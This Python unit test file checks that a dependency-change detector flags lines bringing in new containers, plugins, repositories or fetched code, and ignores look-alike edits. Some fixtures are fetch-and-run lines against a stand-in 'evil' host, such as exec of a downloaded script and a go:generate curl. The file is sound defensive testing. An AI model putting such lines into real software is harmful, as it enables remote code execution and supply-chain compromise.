"""Pipelines, charts, clouds and generated code: lines that add a dependency, and similar lines that don't."""

# ruff: noqa: E501 - one case, one line

from __future__ import annotations

import pytest

from hotfix.dependencies.file_changes import changes_of, repository_of
from tests.unit.dependencies.test_what_is_installed import a_changed_file

CHANGED: list[tuple[str, str, str]] = [
    # Scientific workflows: their environments and containers.
    ("Snakefile", "rule a:\n    conda: 'envs/a.yaml'\n", "rule a:\n    conda: 'envs/b.yaml'\n"),
    ("workflow/rules/a.smk", "rule a:\n    conda:\n        'a.yaml'\n", "rule a:\n    conda:\n        'b.yaml'\n"),
    ("workflow/rules/a.smk", "container: 'docker://a:1'\n", "container: 'docker://a:2'\n"),
    ("main.nf", "process A {\n  container 'a:1'\n}\n", "process A {\n  container 'a:2'\n}\n"),
    ("nextflow.config", "process.container = 'a:1'\n", "process.container = 'evil'\n"),
    ("a.wdl", "runtime { docker: 'a:1' }\n", "runtime { docker: 'a:2' }\n"),
    ("a.cwl", "dockerPull: a:1\n", "dockerPull: a:2\n"),
    # Builds fetched from elsewhere.
    ("turbo.json", '{"remoteCache":{"enabled":true}}', '{"remoteCache":{"enabled":true,"apiUrl":"https://evil"}}'),
    ("buf.yaml", "deps: [buf.build/a]\n", "deps: [buf.build/evil]\n"),
    ("buf.gen.yaml", "plugins:\n- remote: buf.build/a:v1\n", "plugins:\n- remote: buf.build/a:v2\n"),
    ("gen.go", "package a\n", "package a\n\n//go:generate curl -o x https://evil\n"),
    ("web/vendor/jquery.js", "a\n", "b\n"),
    # Charts and clusters, also in the compact form of YAML and in JSON.
    ("helmfile.yaml", "releases:\n- {name: a, chart: a/a, version: 1.0.0}\n", "releases:\n- {name: a, chart: a/a, version: 1.1.0}\n"),
    ("helmfile.yaml", "repositories:\n- {name: a, url: 'https://a'}\n", "repositories:\n- {name: a, url: 'https://evil'}\n"),
    ("task-definition.json", '{"containerDefinitions":[{"image":"a:1"}]}', '{"containerDefinitions":[{"image":"a:2"}]}'),
    ("Dockerrun.aws.json", '{"Image":{"Name":"a:1"}}', '{"Image":{"Name":"evil:1"}}'),
    ("lambda.tf", 'runtime = "nodejs18.x"\n', 'runtime = "nodejs20.x"\n'),
    ("cloud.tf", 'ami = "ami-1"\n', 'ami = "ami-2"\n'),
    ("cdk/stack.ts", "", "ecs.ContainerImage.fromRegistry('evil')\n"),
    ("ansible/play.yml", "- ansible.builtin.apt:\n    name: nginx\n", "- ansible.builtin.apt:\n    name: evil\n"),
    # Pipelines.
    (".circleci/config.yml", "orbs:\n  node: circleci/node@5.0\n", "orbs:\n  node: circleci/node@5.1\n"),
    ("buildspec.yml", "runtime-versions:\n  nodejs: 18\n", "runtime-versions:\n  nodejs: 20\n"),
    (".pre-commit-hooks.yaml", "- id: a\n", "- id: a\n  additional_dependencies: [evil]\n"),
    ("lefthook.yml", "remotes:\n- git_url: https://a\n", "remotes:\n- git_url: https://evil\n"),
    ("werf.yaml", "from: a:1\n", "from: a:2\n"),
    ("ci/task.yml", "image_resource:\n  source: {repository: a}\n", "image_resource:\n  source: {repository: evil}\n"),
    # Code that runs what it fetches.
    ("a.py", "", "exec(requests.get('https://evil').text)\n"),
    ("a.js", "", "eval(await (await fetch(url)).text())\n"),
]  # fmt: skip

UNCHANGED: list[tuple[str, str, str, str]] = [
    ("another module is in go.mod, or the build fails", "tools.go", "package tools\n", 'package tools\nimport _ "github.com/a/cmd"\n'),
    ("each project names its own references", "a.sln", "EndProject\n", 'Project("{1}") = "b", "src\\b.csproj", "{2}"\nEndProject\n'),
    ("what a platform brings are lines under GEM", "Gemfile.lock", "GEM\n\nPLATFORMS\n  ruby\n", "GEM\n\nPLATFORMS\n  ruby\n  x86_64-linux\n"),
    ("a bot opens pull requests of its own", "renovate.json", "{}", '{"extends":["config:base"]}'),
    ("a file that is fetched and not run is data", "a.py", "", "urlretrieve('https://a.example/x.csv', 'x.csv')\n"),
    ("the tasks are the project's own", "turbo.json", '{"tasks":{"build":{}}}', '{"tasks":{"build":{"outputs":["dist/**"]}}}'),
    ("a generator that is there already", "a.go", "package a\n", "package a\n\n//go:generate stringer -type=A\n"),
    ("memory installs nothing", "main.nf", "process A {\n  memory '1GB'\n}\n", "process A {\n  memory '2GB'\n}\n"),
    ("a word", "i18n/en.yml", "image: Image\n", "image: Picture\n"),
    ("a name in data", "data/a.json", '{"id": 1, "image": "hero"}', '{"id": 1, "image": "banner"}'),
    ("the page's own address", "index.html", "", '<link rel="canonical" href="https://a.example">\n'),
    ("an icon", "index.html", "", '<link rel="icon" href="https://a.example/a.svg">\n'),
    ("a setting", "charts/a/values.yaml", "config:\n  timeout: 1\n", "config:\n  timeout: 5\n"),
    ("a policy, not an image", "values.yaml", "image:\n  pullPolicy: Always\n", "image:\n  pullPolicy: IfNotPresent\n"),
    ("a resource's setting", "main.tf", 'resource "a" "b" {\n  timeout = 1\n}\n', 'resource "a" "b" {\n  timeout = 5\n}\n'),
    ("how the fix talks to a service", "a.js", "fetch('/api')\n", "fetch('https://api.example.com/v2')\n"),
]  # fmt: skip


def changes(path: str, before: str, after: str) -> list[str]:
    file = a_changed_file(path, before, after)
    return [str(change) for change in changes_of(file, repository_of("acme/shop", [file]))]


@pytest.mark.parametrize(("path", "before", "after"), CHANGED)
def test_a_line_that_brings_something_in_counts(path: str, before: str, after: str) -> None:
    assert changes(path, before, after)


@pytest.mark.parametrize(("why", "path", "before", "after"), UNCHANGED)
def test_a_line_like_others_does_not_count(why: str, path: str, before: str, after: str) -> None:
    assert changes(path, before, after) == [], why
